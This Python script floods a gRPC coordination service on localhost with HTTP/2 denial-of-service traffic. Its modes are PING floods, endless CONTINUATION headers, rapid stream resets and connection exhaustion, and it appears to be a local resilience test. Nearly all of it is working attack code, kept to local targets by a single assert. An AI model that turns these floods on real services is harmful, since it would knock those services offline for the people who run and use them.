#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Abuses the port of a coordination service on this machine: attack.py KIND ADDRESS SECONDS. Says how much it sent."""
import collections
import resource
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MOST_HELD = 3000  # connections


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


SETTINGS = frame(4, 0, 0)


def connect(address):
    host, port = address.rsplit(":", 1)
    assert host.startswith("127."), "only this machine may be attacked"
    connection = socket.create_connection((host, int(port)), timeout=2)
    connection.settimeout(0.5)
    return connection


def pings(_):
    return frame(6, 0, 0, b"attacked") * 4000


def headers(number):
    """The headers of one request that never ends: the first part, and then continuations."""
    literal = b"\0\x05x-big\x7f\x81\x7c" + b"x" * 16000
    if number == 0:
        return frame(1, 0, 1, b"\x83\x86\x84" + literal)
    return frame(9, 0, 1, literal) * 8


def resets(number):
    """Requests that are cancelled at once."""
    path = b"/tutti.cluster.wire.Coordinator/Join"
    request = b"\x83\x86\x04" + bytes([len(path)]) + path + b"\0\x0ccontent-type\x10application/grpc\0\x02te\x08trailers"
    streams = range(2000 * number + 1, 2000 * (number + 1), 2)
    return b"".join(frame(1, 4, s, request) + frame(3, 0, s, struct.pack(">I", 8)) for s in streams)


def flood(address, until, more):
    """Sends what it can without ever reading, over one connection after the other."""
    sent = 0
    while time.monotonic() < until:
        try:
            with connect(address) as connection:
                connection.sendall(PREFACE + SETTINGS)
                number = 0
                while time.monotonic() < until:
                    data = more(number)
                    connection.sendall(data)
                    sent += len(data)
                    number += 1
        except OSError:
            pass
    return f"{sent} bytes"


def silent(address, until):
    """Opens connections as fast as it can, says nothing, and holds the newest."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    most = min(hard, MOST_HELD + 100)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, hard))
    held, opened = collections.deque(), 0
    while time.monotonic() < until:
        try:
            held.append(connect(address))
            opened += 1
        except OSError:
            pass
        while len(held) > most - 100:
            held.popleft().close()
    return f"{opened} connections"


KINDS = {"pings": pings, "headers": headers, "resets": resets, "silent": None}

if __name__ == "__main__":
    kind, address, seconds = sys.argv[1:]
    until = time.monotonic() + min(float(seconds), 120)
    said = flood(address, until, KINDS[kind]) if KINDS[kind] else silent(address, until)
    print(kind, said, flush=True)
